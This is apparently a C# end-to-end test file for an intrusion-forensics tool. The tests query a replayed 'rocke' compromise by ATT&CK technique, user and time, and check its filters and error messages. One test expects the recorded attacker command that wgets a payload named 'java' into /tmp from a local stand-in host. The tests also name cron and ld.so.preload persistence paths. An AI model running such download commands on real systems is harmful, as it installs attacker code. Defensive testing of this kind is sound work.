using System.Text.Json;

namespace IntegrityWatch.EndToEnd;

/// <summary>Questions to the history of the intrusion: by technique, by user, by time.</summary>
public sealed class QuestionTests : IDisposable
{
    private readonly EvidenceTree tree = EvidenceTree.CapturedAt("rocke", "before");

    public QuestionTests() => tree.Scan(tree.Unpack("rocke", "after"));

    public void Dispose() => tree.Dispose();

    [Theory]
    [InlineData("T1140", "/usr/bin/curl")]
    [InlineData("t1053.003", "/etc/cron.d/root")]
    [InlineData("T1053", "/etc/cron.d/root")]
    [InlineData("T1168", "/etc/cron.d/root")]
    [InlineData("T1574.006", "/etc/ld.so.preload")]
    public void A_technique_tells_what_keyed_rules_saw_of_it(string technique, string path)
    {
        var answer = Ask("history", "--technique", technique);

        Assert.Contains(answer.Json.GetProperty("events").EnumerateArray(), seen => Text(seen, "path") == path);
        Assert.Empty(answer.Json.GetProperty("history").EnumerateArray());
    }

    [Fact]
    public void People_read_who_did_it_with_which_command()
    {
        var answer = BuiltProgram.Run("history", "--technique", "T1140", "--user", "www-data", "--db", tree.Database);

        Assert.Contains("/usr/bin/wget T1140 Deobfuscate/Decode Files or Information\n    seen 1 time from ", answer.Output);
        Assert.Contains("\n    $ wget -q -O /tmp/java http://127.0.0.1:8080/java\n", answer.Output);
    }

    [Theory]
    [InlineData("www-data")]
    [InlineData("33")]
    public void A_user_tells_all_that_they_used(string user)
    {
        var answer = Ask("history", "--user", user);

        Assert.Contains(answer.Json.GetProperty("history").EnumerateArray(), file => Text(file, "path") == "/tmp/java");
        Assert.Contains(answer.Json.GetProperty("events").EnumerateArray(), seen => Text(seen, "path") == "/usr/bin/curl");
        Assert.DoesNotContain(answer.Json.GetProperty("history").EnumerateArray(), file => Text(file, "path") == "/opt/app/my tool");
    }

    [Fact]
    public void A_time_leaves_out_what_was_last_seen_before()
    {
        var all = Ask("history", "--since", "2020-01-01").Json.GetProperty("history").GetArrayLength();
        var late = Ask("history", "--since", "2026-11-23T17:01:00Z").Json.GetProperty("history").EnumerateArray().ToList();

        Assert.InRange(late.Count, 1, all - 1);
        Assert.All(late, file => Assert.True(string.CompareOrdinal(Text(file, "lastSeen"), "2026-11-23T17:01:00") >= 0));
        Assert.Empty(Ask("history", "--since", "2999-01-01").Json.GetProperty("history").EnumerateArray());
    }

    [Fact]
    public void The_list_of_findings_is_limited_and_the_exit_code_is_not()
    {
        var some = Ask("findings", "list", "--technique", "T1140");

        Assert.Equal(2, some.ExitCode);
        Assert.NotEmpty(some.Findings);
        Assert.All(some.Findings, finding => Assert.Contains(finding.GetProperty("techniques").EnumerateArray(), technique => Text(technique, "id") == "T1140"));
        Assert.True(some.Json.GetProperty("summary").GetProperty("open").GetInt32() > some.Findings.Count);
    }

    [Theory]
    [InlineData("--kind", "suspicious-location")]
    [InlineData("--path", "/tmp/**")]
    [InlineData("--severity", "critical")]
    [InlineData("--user", "www-data")]
    public void Each_filter_keeps_what_fits_it_and_nothing_else(string option, string value)
    {
        var all = Ask("findings", "list").Findings.ToList();
        var some = Ask("findings", "list", option, value);

        bool Fits(JsonElement finding) => option switch
        {
            "--kind" => Text(finding, "kind") == value,
            "--path" => Text(finding, "path")!.StartsWith("/tmp/", StringComparison.Ordinal),
            "--severity" => Text(finding, "severity") == value,
            _ => finding.TryGetProperty("process", out var process) && process.TryGetProperty("user", out var user) && user.GetString() == value,
        };
        Assert.NotEmpty(some.Findings);
        Assert.Equal(all.Where(Fits).Select(finding => Text(finding, "id")), some.Findings.Select(finding => Text(finding, "id")));
        Assert.True(some.Findings.Count < all.Count);
    }

    [Fact]
    public void Filters_hold_together_and_a_number_leaves_out_and_says_so()
    {
        Assert.All(Ask("findings", "list", "--severity", "high").Findings, finding => Assert.True(Text(finding, "severity") is "high" or "critical"));
        var one = Ask("findings", "list", "--path", "/tmp/*", "--limit", "1");

        Assert.Single(one.Findings);
        Assert.Matches("left out: [0-9]+ more", one.Error);
        Assert.Equal(2, one.ExitCode);
        var both = Ask("findings", "list", "--path", "/tmp/*", "--kind", "altered-file");
        Assert.Empty(both.Findings);
        Assert.Contains("nothing that is open fits this", both.Error);
        Assert.Equal(2, both.ExitCode);
    }

    [Fact]
    public void A_pattern_and_a_number_mean_the_same_in_the_history()
    {
        var tmp = Ask("history", "--path", "/tmp/**").Json.GetProperty("history").EnumerateArray().ToList();

        Assert.NotEmpty(tmp);
        Assert.All(tmp, file => Assert.StartsWith("/tmp/", Text(file, "path")));
        var one = Ask("history", "--path", "/usr/**", "--limit", "1");
        Assert.Single(one.Json.GetProperty("history").EnumerateArray());
        Assert.Matches("left out: [0-9]+ more", one.Error);
        Assert.Contains("nothing is known of that", Ask("history", "--path", "/no/such/*").Error);
    }

    [Theory]
    [InlineData("no such kind of finding: newfile", "--kind", "newfile")]
    [InlineData("not a pattern of paths", "--path", "")]
    [InlineData("--limit is 1 at least", "--limit", "0")]
    public void A_filter_that_is_none_is_refused(string message, params string[] filter) =>
        BuiltProgram.Run(["findings", "list", .. filter, "--db", tree.Database]).RefusedWith(message);

    [Theory]
    [InlineData("not an ATT&CK technique", "--technique", "cron")]
    [InlineData("not a time", "--since", "yesterday")]
    [InlineData("not a time", "--since", "9999999d")]
    public void What_is_no_question_is_refused(string message, params string[] question) =>
        BuiltProgram.Run(["history", .. question, "--db", tree.Database]).RefusedWith(message);

    [Fact]
    public void A_question_without_anything_to_ask_is_refused() =>
        BuiltProgram.Run("history", "--db", tree.Database).RefusedWith("say what to tell of");

    private RunResult Ask(params string[] question) => BuiltProgram.Run([.. question, "--db", tree.Database, "--format", "json"]);

    [Theory]
    [InlineData("/h")]
    [InlineData("/?")]
    public void A_path_is_no_call_for_help(string path)
    {
        var told = BuiltProgram.Run("history", path, "--db", tree.Database);

        Assert.Equal((0, ""), (told.ExitCode, told.Output));
        Assert.StartsWith($"integritywatch: nothing is known of {path}\n", told.Error);
    }

    [Fact]
    public void What_follows_a_switch_is_no_value_of_it() =>
        BuiltProgram.Run("findings", "--db", tree.Database, "--quiet", "false").RefusedWith("no such command or argument: false");

    private static string? Text(JsonElement element, string name) => element.GetProperty(name).GetString();
}
